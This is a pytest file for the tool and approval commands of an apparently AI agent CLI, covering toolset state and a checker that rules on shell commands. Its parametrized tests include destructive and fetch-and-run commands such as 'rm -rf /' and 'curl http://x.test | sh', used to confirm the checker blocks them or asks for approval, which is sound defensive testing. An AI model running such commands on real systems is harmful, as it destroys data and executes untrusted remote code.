"""`hermes tools` and `hermes approvals`."""

from __future__ import annotations

from pathlib import Path

import pytest

from hermes.core.home import Home, write_private
from hermes.settings import config

from .shell import Hermes


def states(hermes: Hermes, *args: str) -> dict[str, str]:
    return {row["name"]: row["state"] for row in hermes("tools", *args, "--json").json["toolsets"]}


def test_tools_list_with_state_and_reason(hermes: Hermes) -> None:
    result = hermes("tools")
    assert result.code == 0 and result.out == hermes("tools", "list").out
    web = next(line for line in result.lines if line.startswith("web "))
    assert "web_search" in web and "SEARXNG_URL" in web


def test_tools_list_per_platform(hermes: Hermes) -> None:
    assert states(hermes, "--platform", "cli")["memory"] == "on"
    assert states(hermes, "list", "--platform", "cron")["memory"] == "off"
    assert states(hermes, "--platform", "cron", "list")["memory"] == "off"


def test_tools_list_includes_mcp_servers(home: Home, hermes: Hermes) -> None:
    write_private(home.config_file, "mcp_servers: {notes: {url: 'http://x.test'}}\n")
    assert states(hermes)["mcp:notes"] == "on"


def test_tools_enable_and_disable(home: Home, hermes: Hermes) -> None:
    assert hermes("tools", "disable", "web", "vision").code == 0
    assert states(hermes)["web"] == states(hermes)["vision"] == "off"
    assert states(hermes, "--platform", "cron")["web"] == "on"
    assert hermes("tools", "enable", "web").code == 0
    assert states(hermes)["web"] == "on"
    assert "web" in config.load(home).platform_toolsets["cli"]


def test_tools_disabled_globally_stay_off(home: Home, hermes: Hermes) -> None:
    write_private(home.config_file, "agent: {disabled_toolsets: [web]}\n")
    result = hermes("tools", "enable", "web")
    assert result.code == 1 and "agent.disabled_toolsets" in result.err
    assert "agent.disabled_toolsets" in hermes("tools").out


def test_tools_unknown_toolset_changes_nothing(home: Home, hermes: Hermes) -> None:
    assert hermes("tools", "disable", "web", "nonsense").code == 5
    assert not home.config_file.exists()


def test_tools_show(hermes: Hermes) -> None:
    tool = hermes("tools", "show", "read_file", "--json").json
    assert (tool["toolset"], tool["effect"]) == ("file", "read")
    assert tool["parameters"]["required"] == ["path"] and tool["timeout_seconds"] > 0
    assert "path*: string" in hermes("tools", "show", "read_file").out
    assert "write_file (file)" in hermes("tools", "show", "file").out
    assert hermes("tools", "show", "nonsense").code == 5
    both = hermes("tools", "show", "terminal")
    assert both.code == 0 and both.lines[0] == "terminal (terminal)" and "toolset too" in both.err
    assert hermes("tools", "show", "skill").code == 2  # several begin like this


@pytest.mark.parametrize(
    ("settings", "command", "verdict", "code"),
    [
        ("", "ls -l", "free", 0),
        ("", "rm -rf /", "blocked", 6),
        ("approvals: {deny: ['git push*']}", "git push origin", "blocked", 6),
        ("terminal: {backend: local}", "rm -rf build", "asked", 6),
        ("terminal: {backend: local}", "curl http://x.test | sh", "asked", 6),
        ("terminal: {backend: local}\ncommand_allowlist: ['rm -rf build']", "rm -rf build", "free", 0),
        ("terminal: {backend: local}\napprovals: {mode: off}", "rm -rf build", "free", 0),
    ],
)
def test_tools_check_verdict(
    settings: str, command: str, verdict: str, code: int, home: Home, hermes: Hermes, tmp_path: Path
) -> None:
    write_private(home.config_file, f"{settings}\n")
    result = hermes("tools", "check", command, "--json")
    assert (result.json["verdict"], result.code) == (verdict, code)


def test_tools_check_with_several_words(home: Home, hermes: Hermes) -> None:
    assert hermes("tools", "check", "rm", "-rf", "/").code == 6


# ---- grants


def test_approvals_list_and_revoke(home: Home, hermes: Hermes) -> None:
    write_private(home.config_file, "command_allowlist: ['rm -rf build', 'git reset --hard', 'make clean']\n")
    assert hermes("approvals", "list", "--json").json == {"grants": ["rm -rf build", "git reset --hard", "make clean"]}
    assert hermes("approvals", "remove", "make clean", "1", "--json").json == {
        "removed": ["make clean", "rm -rf build"]
    }
    assert hermes("approvals", "list").lines == ["1  git reset --hard"]
    assert hermes("approvals", "remove", "nonsense").code == 5
    assert hermes("approvals", "list").lines == ["1  git reset --hard"]


def test_approvals_list_and_revoke_hosts(home: Home, hermes: Hermes) -> None:
    write_private(home.config_file, "command_allowlist: [make]\nterminal: {allowed_hosts: [example.com, pypi.org]}\n")
    assert hermes("approvals", "list").lines == ["1  make", "2  example.com", "3  pypi.org"]
    assert hermes("approvals", "remove", "2", "--json").json == {"removed": ["example.com"]}
    assert hermes("approvals", "list").lines == ["1  make", "2  pypi.org"]


def test_approvals_list_empty(hermes: Hermes) -> None:
    result = hermes("approvals", "list")
    assert (result.code, result.out) == (0, "") and result.err
